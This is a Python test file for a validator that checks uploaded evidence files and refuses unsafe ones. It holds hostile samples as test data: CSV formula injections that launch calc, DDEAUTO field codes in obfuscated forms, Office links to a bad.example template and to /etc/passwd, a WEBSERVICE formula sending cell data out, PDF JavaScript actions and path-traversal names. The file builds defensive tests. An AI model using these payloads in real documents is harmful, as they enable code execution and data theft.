"""What is taken as evidence, under which name and kind, and everything that is not."""

from __future__ import annotations

import datetime
import io
import zipfile
from xml.sax.saxutils import escape

import pikepdf
import pytest
from tests import evidence_files as files

from prongsai.core.errors import InputError
from prongsai.reading.evidence import CLEANED, MOST_BYTES, clean_name, examine

OFFICE = "application/vnd.openxmlformats-officedocument"
HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


@pytest.mark.parametrize(
    ("data", "name", "kept", "media_type"),
    [
        (files.pdf(), "คำสั่ง.pdf", "คำสั่ง.pdf", "application/pdf"),
        (files.jpeg(), "IMG_1.JPG", "IMG_1.JPG", "image/jpeg"),
        (files.png(), "ภาพ.png", "ภาพ.png", "image/png"),
        (files.webp(), "ภาพ.webp", "ภาพ.webp", "image/webp"),
        # What a phone has made a JPEG of may still be called otherwise.
        (files.jpeg(), "IMG_2.HEIC", "IMG_2.jpg", "image/jpeg"),
        (files.word(), "บันทึก.docx", "บันทึก.docx", f"{OFFICE}.wordprocessingml.document"),
        (files.excel(), "สถิติ.xlsx", "สถิติ.xlsx", f"{OFFICE}.spreadsheetml.sheet"),
        (files.slides(), "ประชุม.pptx", "ประชุม.pptx", f"{OFFICE}.presentationml.presentation"),
        (files.open_document(), "a.odt", "a.odt", "application/vnd.oasis.opendocument.text"),
        (
            files.open_document("spreadsheet"),
            "a.ods",
            "a.ods",
            "application/vnd.oasis.opendocument.spreadsheet",
        ),
        ("เปิดบริการแล้ว <b> 5 > 3\r\n".encode(), "a.txt", "a.txt", "text/plain"),
        ("เดือน,คน\nม.ค.,-12\n+66 77 123,@donsak\n".encode("cp874"), "a.csv", "a.csv", "text/csv"),
        ("เดือน;คน\n".encode("utf-16"), "a.csv", "a.csv", "text/csv"),
        (b"a," * 200_000, "a.csv", "a.csv", "text/csv"),
        # The content decides, not the name.
        (files.pdf(), "page.html", "page.html.pdf", "application/pdf"),
        (files.jpeg(), "ภาพ.png", "ภาพ.jpg", "image/jpeg"),
        (files.pdf(), "ไม่มีนามสกุล", "ไม่มีนามสกุล.pdf", "application/pdf"),
    ],
)
def test_what_shows_what_was_done_is_taken(data: bytes, name: str, kept: str, media_type: str) -> None:
    found = examine(data, name)

    assert (found.name, found.media_type) == (kept, media_type)


@pytest.mark.parametrize(
    ("data", "name", "problem"),
    [
        (b"", "a.pdf", "evidence.empty"),
        (b"%PDF-1.7" + b" " * MOST_BYTES, "a.pdf", "evidence.too_large"),
        (HTML, "a.html", "evidence.markup"),
        (HTML, "รายงาน.txt", "evidence.markup"),
        (b"\xef\xbb\xbf\n  <HTML>", "a.csv", "evidence.markup"),
        ("\ufeff<html>".encode("utf-16-le"), "a.txt", "evidence.markup"),
        (SVG, "ภาพ.svg", "evidence.markup"),
        (SVG, "ภาพ.png", "evidence.markup"),
        (b'<?xml version="1.0"?><a/>', "a.xml", "evidence.markup"),
        (b"alert(1)", "a.js", "evidence.program"),
        (b"@echo off\r\ndel *", "a.bat", "evidence.program"),
        (b"#!/bin/sh\n", "a.txt", "evidence.program"),
        (b"MZ\x90\0" + b"\0" * 60, "ภาพ.jpg", "evidence.program"),
        (b"\x7fELF" + b"\0" * 60, "a.pdf", "evidence.program"),
        (files.archive({"a.txt": "ก"}), "a.zip", "evidence.archive"),
        (files.archive({"a.txt": "ก"}), "a.docx", "evidence.archive"),
        (b"Rar!\x1a\x07\0", "a.rar", "evidence.archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "a.doc", "evidence.old_office"),
        (b"GIF89a\x01\0", "a.gif", "evidence.unknown"),
        (b"\0\0\0\x18ftypmp42" + b"\0" * 12, "a.mp4", "evidence.unknown"),
        ("ชื่อ,=cmd|' /C calc'!A0\n".encode(), "a.csv", "evidence.formula"),
        (b"a,-cmd|'/C calc'!A0\n", "a.csv", "evidence.formula"),
        (b'"a","@SUM(A1)"\n', "a.csv", "evidence.formula"),
        (b"sep=|\na|=1+1\n", "a.csv", "evidence.formula"),
        ("ชื่อ,คน\t=1+1\n".encode("utf-16"), "a.csv", "evidence.formula"),
        ("ชื่อ,＝1+1\n".encode(), "a.csv", "evidence.formula"),
        (b"%PDF-1.7\nnot really", "a.pdf", "evidence.damaged"),
        (files.jpeg()[:-20], "a.jpg", "evidence.damaged"),
        (files.png()[:-6], "a.png", "evidence.damaged"),
        (files.webp()[:-4], "a.webp", "evidence.damaged"),
        (files.heic(), "a.heic", "evidence.heic"),
        (files.word()[:-40], "a.docx", "evidence.damaged"),
    ],
)
def test_what_is_no_evidence_is_not_taken(data: bytes, name: str, problem: str) -> None:
    with pytest.raises(InputError) as caught:
        examine(data, name)

    (found,) = caught.value.problems
    assert found.id == problem
    assert found.why.th and found.why.en and found.remedy.th and found.remedy.en


def script(name: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(name), JS=pikepdf.String("app.alert(1)"))


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (files.pdf(OpenAction=script("/JavaScript")), "evidence.macros"),
        (files.pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name("/Launch"))), "evidence.macros"),
        (files.pdf(Held=pikepdf.Dictionary(Type=pikepdf.Name("/EmbeddedFile"))), "evidence.embedded"),
        (files.locked_pdf(), "evidence.locked"),
        (files.pdf() + files.archive({"a.html": HTML}), "evidence.two_kinds"),
    ],
)
def test_a_pdf_that_does_more_than_show_is_refused(data: bytes, problem: str) -> None:
    with pytest.raises(InputError) as caught:
        examine(data, "a.pdf")

    assert [each.id for each in caught.value.problems] == [problem]


RELS = "word/_rels/document.xml.rels"
WORD = '<w:document xmlns:w="w">{}</w:document>'


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("word/vbaProject.bin", b"\0", "evidence.macros"),
        ("word/activeX/activeX1.xml", "<a/>", "evidence.macros"),
        ("[Content_Types].xml", files.CONTENT_TYPES.format('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "evidence.macros"),
        (RELS, files.relation("attachedTemplate", "https://bad.example/t.dotm"), "evidence.external"),
        (RELS, files.relation("oleObject", "file:///etc/passwd"), "evidence.external"),
        (RELS, files.relation("image", "https://bad.example/p.png"), "evidence.external"),
        (RELS, files.relation("hyperlink", "file://server/share"), "evidence.external"),
        (RELS, files.relation("hyperlink", "javascript:alert(1)"), "evidence.external"),
        (RELS, files.relation("aFChunk", "/word/chunk.xml", "Internal"), "evidence.macros"),
        ("word/document.xml", WORD.format("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"), "evidence.external"),
        ("word/document.xml", '<!DOCTYPE a [<!ENTITY b "c">]>' + WORD, "evidence.damaged"),
        ("word/embeddings/oleObject1.bin", b"\0", "evidence.embedded"),
        ("word/media/run.exe", b"MZ", "evidence.embedded"),
        ("word/media/page.html", HTML, "evidence.embedded"),
        ("../../etc/passwd", b"x", "evidence.damaged"),
        ("word/media/bomb.png", b"\0" * 12_000_000, "evidence.inflates"),
        ("xl/workbook.xml", "<a/>", "evidence.two_kinds"),
    ],
)  # fmt: skip
def test_a_word_file_that_does_more_than_show_is_refused(
    name: str, content: str | bytes, problem: str
) -> None:
    with pytest.raises(InputError) as caught:
        examine(files.with_part(files.word(), name, content), "a.docx")

    assert {each.id for each in caught.value.problems} == {problem}


@pytest.mark.parametrize("target", ["https://www.donsak.go.th", "mailto:a@example.go.th"])
def test_a_link_to_be_clicked_is_no_harm(target: str) -> None:
    links = files.relation("hyperlink", target)
    found = examine(files.with_part(files.word(), "word/_rels/other.xml.rels", links), "a.docx")

    with zipfile.ZipFile(io.BytesIO(found.data)) as archive:
        assert archive.read("word/_rels/other.xml.rels").decode() == links


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (files.open_document(**{"Basic/Standard/a.xml": "<a/>"}), "evidence.macros"),
        (files.open_document(**{"Scripts/python/a.py": "x"}), "evidence.macros"),
        (files.open_document(**{"Object 1": "x"}), "evidence.embedded"),
        (files.open_document(**{"styles.xml": "<draw:image xlink:href='https://bad.example/a.png'/>"}), "evidence.damaged"),
        (files.with_part(files.excel(), "xl/externalLinks/externalLink1.xml", "<a/>"), "evidence.external"),
        (files.with_part(files.excel(), "xl/macrosheets/sheet1.xml", "<a/>"), "evidence.macros"),
        (files.archive({f"{number}.xml": "" for number in range(3_001)}), "evidence.inflates"),
        (files.word() + b"<html>", "evidence.two_kinds"),
    ],
)  # fmt: skip
def test_other_office_files_are_held_to_the_same(data: bytes, problem: str) -> None:
    # What follows an archive is its comment, or nothing that any program would find.
    if data.endswith(b"<html>"):
        at = len(data) - 8
        data = data[:at] + (6).to_bytes(2, "little") + data[at + 2 :]
    with pytest.raises(InputError) as caught:
        examine(data, "a.odt")

    assert {each.id for each in caught.value.problems} == {problem}


W = 'xmlns:w="w"'
IMAGE = """<{0}:image xmlns:{0}="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:x="x" x:href{1}/>"""
RUN = "<w:instrText>{}</w:instrText>"


@pytest.mark.parametrize(
    "written",
    [
        "<w:fldSimple w:instr='DDEAUTO c:\\cmd'/>",
        RUN.format("D&#68;EAUTO c:\\cmd"),
        RUN.format("<![CDATA[DDEAUTO c:\\cmd]]>"),
        RUN.format("D<!-- -->DEAUTO c:\\cmd"),
        RUN.format("QUOTE 68 68 69 65 85 84 79"),
        "<a-b:instrText xmlns:a-b='w'>INCLUDEPICTURE</a-b:instrText>",
        "<v:imagedata xmlns:v='v' src='\\\\server\\share\\a.png'/>",
        IMAGE.format("draw", "='https://bad.example/a.png'"),
        IMAGE.format("d", ' = "&#104;ttps://bad.example/a.png"'),
        "<row><c><f>cmd|'/C calc'!A0</f></c></row>",
        '<row><c><f>WEBSERVICE("https://bad.example/"&amp;A1)</f></c></row>',
    ],
)
def test_what_fetches_or_runs_is_found_however_it_is_written(written: str) -> None:
    for encoding in ("utf-8", "utf-16"):
        part = f'<?xml version="1.0" encoding="{encoding}"?><w:document {W}>{written}</w:document>'.encode(
            encoding
        )
        # A document names its main part itself, so that any part may be it.
        for office, name in ((files.word(), "other/part.xml"), (files.open_document(), "content.xml")):
            data = files.with_part(office, name, part)
            with pytest.raises(InputError) as caught:
                examine(data, "a.docx")
            assert {each.id for each in caught.value.problems} == {"evidence.external"}


@pytest.mark.parametrize("target", ["\\\\server\\share\\a.png", "//server/a.png", "file:a.png"])
def test_a_part_that_is_said_to_be_within_is_within(target: str) -> None:
    part = files.relation("image", target, "Internal")
    with pytest.raises(InputError) as caught:
        examine(files.with_part(files.word(), "word/_rels/other.xml.rels", part), "a.docx")

    assert {each.id for each in caught.value.problems} == {"evidence.external"}


@pytest.mark.parametrize(
    "repeated", ["<w:instrText ", "INFO ", "<dataBinding ", '<draw:image x:href="', "<absPath "]
)
def test_a_part_is_gone_over_once_whatever_it_repeats(repeated: str) -> None:
    # Backtracking would take days; a megabyte is read at once.
    words = repeated * (900_000 // len(repeated))
    for body in (words, f"<w:instrText>{words.replace('<', '')}"):
        document = f"<w:document {W}>{body}"
        with pytest.raises(InputError) as caught:
            examine(files.with_part(files.word(), "word/document.xml", document), "a.docx")
        assert {each.id for each in caught.value.problems} == {"evidence.damaged"}
    whole = f"<w:document {W}><w:p>{escape(words)}</w:p></w:document>"
    assert examine(files.with_part(files.word(), "word/document.xml", whole), "a.docx").name == "a.docx"


def test_everything_that_is_wrong_is_told_at_once() -> None:
    data = files.with_part(files.word(), "word/vbaProject.bin", b"\0")
    data = files.with_part(data, "word/media/run.exe", b"MZ")
    with pytest.raises(InputError) as caught:
        examine(data, "a.docx")

    assert {each.id for each in caught.value.problems} == {"evidence.macros", "evidence.embedded"}


@pytest.mark.parametrize("turn", [1, 6])
def test_a_photograph_keeps_its_turn_and_its_day_and_loses_its_place(turn: int) -> None:
    found = examine(files.jpeg(turn=turn, notes=True), "IMG.jpg")

    assert found.taken == datetime.date(2026, 3, 12)
    assert found.notes == (CLEANED,)
    assert files.PLACE_WORDS not in found.data and b"2026:03:12" not in found.data
    again = examine(found.data, "IMG.jpg")
    assert (b"Exif" in found.data) == (turn != 1)
    assert again.taken is None
    if turn == 1:
        assert found.data == files.jpeg()
    else:
        # The one tag that is left: 0x0112, a short, once, 6.
        assert b"\x01\x12\0\x03\0\0\0\x01\0\x06" in found.data


def test_what_rides_behind_a_picture_is_cut_off() -> None:
    riding = files.archive({"a.html": HTML})

    assert examine(files.jpeg() + riding, "a.jpg").data == files.jpeg()
    assert examine(files.png() + riding, "a.png").data == files.png()
    assert examine(files.webp() + riding, "a.webp").data == files.webp()


def test_notes_of_other_pictures_are_left_out() -> None:
    noted = files.png(files.chunk(b"tEXt", b"Comment\0<script>"), files.chunk(b"eXIf", files.PLACE_WORDS))
    found = examine(noted, "a.png")
    assert (found.data, found.notes) == (files.png(), (CLEANED,))

    small = examine(files.webp(notes=True), "a.webp")
    assert small.notes == (CLEANED,)
    assert files.PLACE_WORDS not in small.data and examine(small.data, "a.webp").data == small.data
    # Nobody is to look for notes that are not there any more.
    assert small.data[20] == 0


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\งาน\\คำสั่ง.pdf", "คำสั่ง.pdf"),
        ("รายงาน\u202efdp.exe", "รายงานfdp.exe"),
        ("a\0b\r\nSet-Cookie: x.pdf", "abSet-Cookie- x.pdf"),
        ("  ..hidden.pdf ", "hidden.pdf"),
        ('a"<b>|c?*.pdf', "a-b-c-.pdf"),
        ("ก" * 300 + ".pdf", "ก" * 146 + ".pdf"),
        ("", "หลักฐาน"),
        ("///", "หลักฐาน"),
    ],
)
def test_names_lead_nowhere_and_hide_nothing(name: str, kept: str) -> None:
    assert clean_name(name) == kept
